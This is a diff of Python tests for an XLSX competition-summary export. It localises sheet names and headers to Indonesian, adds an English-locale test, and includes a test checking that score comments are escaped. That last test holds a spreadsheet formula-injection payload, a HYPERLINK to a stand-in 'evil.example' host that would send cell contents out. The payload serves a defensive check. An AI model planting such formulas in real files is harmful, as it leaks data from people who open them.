@@ -79,19 +79,42 @@ def test_feedback_pdf_shows_markup_in_comments_as_text(aworld, users):
 def test_summary_xlsx_reads_back(aworld, users):
     _finish(aworld, users)
     book = load_workbook(io.BytesIO(summary_xlsx(aworld.round)))
-    assert book.sheetnames == ["results", "awards", "scores", "assignment", "figures"]
-    rows = list(book["results"].iter_rows(values_only=True))
-    assert list(rows[0]) == RESULT_HEADER
+    assert book.sheetnames == ["Hasil", "Penghargaan", "Skor", "Penugasan", "Angka"]
+    rows = list(book["Hasil"].iter_rows(values_only=True))
+    assert list(rows[0]) == [str(c.label) for c in RESULT_HEADER]
+    assert rows[0][:4] == ("Kode", "Daerah", "Skor mentah", "Skor terkalibrasi")
     stored = {r.submission.participation.region.code: r for r in RegionResult.objects.all()}
     # XLSX keeps 15 significant digits
     assert {row[0]: (round(row[3], 12), row[4]) for row in rows[1:]} == {
         code: (round(r.calibrated, 12), r.rank) for code, r in stored.items()
     }
-    assert len(list(book["scores"].iter_rows())) == 1 + 8 * 5
-    assert len(list(book["assignment"].iter_rows())) == 1 + 8
-    figures = {row[0]: row[1] for row in book["figures"].iter_rows(min_row=2, values_only=True)}
+    calibrated = book["Hasil"]["D2"]
+    assert calibrated.data_type == "n" and calibrated.number_format == "#,##0.0000"
+    assert len(list(book["Skor"].iter_rows())) == 1 + 8 * 5
+    assignment = list(book["Penugasan"].iter_rows(values_only=True))
+    assert len(assignment) == 1 + 8
+    assert {row[5] for row in assignment[1:]} == {"Dikirim"}  # the review state's label, not "submitted"
+    assert {row[3] for row in assignment[1:]} <= {"Penugasan optimal", "Diganti sekretariat"}
+    figures = {row[0]: row[1] for row in book["Angka"].iter_rows(min_row=2, values_only=True)}
     assert set(figures) >= {"alpha", "icc", "calibration", "ranking", "ratings"}
-    assert figures["ratings"] == "8"
+    assert figures["ratings"] == 8  # a number stays a numeric cell
+
+
+def test_summary_xlsx_in_english(aworld, users):
+    _finish(aworld, users)
+    with translation.override("en"):
+        book = load_workbook(io.BytesIO(summary_xlsx(aworld.round)))
+    assert book.sheetnames == ["Results", "Awards", "Scores", "Assignment", "Figures"]
+    assert [c.value for c in book["Results"][1]][:5] == [
+        "Code",
+        "Region",
+        "Raw score",
+        "Calibrated score",
+        "Rank",
+    ]
+    assert [c.value for c in book["Awards"][1]][:2] == ["Category", "Place"]
+    assert {row[5] for row in book["Assignment"].iter_rows(min_row=2, values_only=True)} == {"Submitted"}
+    assert {row[2] for row in book["Scores"].iter_rows(min_row=2, values_only=True)} == {"Submitted"}
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
@@ -103,6 +126,6 @@ def test_round_summary_xlsx_comment_is_not_a_formula(aworld, users):
     _finish(aworld, users)
     Score.objects.filter(comment__startswith="komentar").update(comment=FORMULA)
     book = load_workbook(io.BytesIO(summary_xlsx(aworld.round)))
-    comments = [c for c in book["scores"]["G"][1:] if c.value]
+    comments = [c for c in book["Skor"]["G"][1:] if c.value]
     assert comments and all(c.data_type == "s" and c.value == "'" + FORMULA for c in comments)
     assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
